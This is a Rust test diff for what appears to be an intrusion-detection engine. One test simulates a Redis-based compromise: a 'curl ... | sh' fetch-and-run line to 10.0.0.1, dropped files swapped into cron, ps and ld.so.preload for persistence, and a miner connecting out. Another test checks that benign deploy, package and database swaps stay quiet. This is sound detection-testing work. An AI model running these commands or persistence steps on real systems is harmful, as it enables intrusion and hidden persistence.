@@ -260,3 +260,64 @@ fn honest_work_never_pages() {
         assert!(verdict(&host) <= Some(Verdict::Noted), "{name}: {}", story(&alerts(&host)));
     }
 }
+
+#[test]
+fn files_that_an_intruder_exchanges_count_at_both_names() {
+    for swapped in [true, false] {
+        let (mut host, init) = host();
+        let redis = host.spawn(init, "/usr/bin/redis-server", &["redis-server"]);
+        let shell = host.spawn(redis, "/usr/bin/dash", &["sh", "-c", "curl -s http://10.0.0.1:8000/i | sh"]);
+        let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-so", "/tmp/.m", "http://10.0.0.1:8000/m"]);
+        host.connect(curl, "10.0.0.1:8000");
+        for path in ["/tmp/.m", "/tmp/.job", "/tmp/.ps", "/tmp/.list"] {
+            host.create(curl, path, 0o755);
+        }
+        for (dropped, place) in [
+            ("/tmp/.job", "/etc/cron.d/backup"),
+            ("/tmp/.ps", "/usr/bin/ps"),
+            ("/tmp/.list", "/etc/ld.so.preload"),
+            ("/tmp/.m", "/usr/local/bin/helper"),
+        ] {
+            let (one, other) = if swapped { (place, dropped) } else { (dropped, place) };
+            host.exchange(shell, one, other);
+        }
+        let miner = host.spawn(shell, "/usr/local/bin/helper", &["helper"]);
+        host.connect(miner, "10.0.0.5:443");
+        let alerts = alerts(&host);
+        let last = alerts.last().expect("an alert");
+        assert_eq!(last.verdict, Verdict::Suspected, "{}", story(&alerts));
+        for id in ["B6", "B7", "B8T"] {
+            assert!(ids(last).contains(&id), "{id}: {}", story(&alerts));
+        }
+        let dropped = last.chain.iter().any(|edge| {
+            edge.kind == crate::model::ChainKind::Drop && edge.object.contains("/usr/local/bin/helper")
+        });
+        assert!(dropped, "what runs is what was written: {}", story(&alerts));
+    }
+}
+
+#[test]
+fn deployments_packages_and_databases_exchange_files() {
+    for swapped in [true, false] {
+        let (mut host, init) = host();
+        let login = log_in(&mut host, init);
+        let deploy = host.spawn(login, "/usr/bin/python3", &["python3", "/srv/deploy.py"]);
+        host.create(deploy, "/srv/app-2/bin/app", 0o755);
+        let exchange = |host: &mut Host, process, one, other| {
+            let (one, other) = if swapped { (other, one) } else { (one, other) };
+            host.exchange_directories(process, one, other);
+        };
+        exchange(&mut host, deploy, "/srv/app-2", "/srv/app");
+        let app = host.spawn(init, "/srv/app/bin/app", &["app"]);
+        host.connect(app, "10.0.0.9:5432");
+        let apt = host.spawn(login, "/usr/bin/apt-get", &["apt-get", "install", "procps"]);
+        let dpkg = host.spawn(apt, "/usr/bin/dpkg", &["dpkg", "--unpack", "procps.deb"]);
+        exchange(&mut host, dpkg, "/usr/bin/ps.dpkg-new", "/usr/bin/ps");
+        exchange(&mut host, dpkg, "/etc/cron.d/x.dpkg-new", "/etc/cron.d/x");
+        let database = host.spawn(init, "/usr/bin/mydb", &["mydb"]);
+        for _ in 0..20 {
+            exchange(&mut host, database, "/var/lib/mydb/CURRENT.tmp", "/var/lib/mydb/CURRENT");
+        }
+        assert_eq!(verdict(&host), None, "{}", story(&alerts(&host)));
+    }
+}
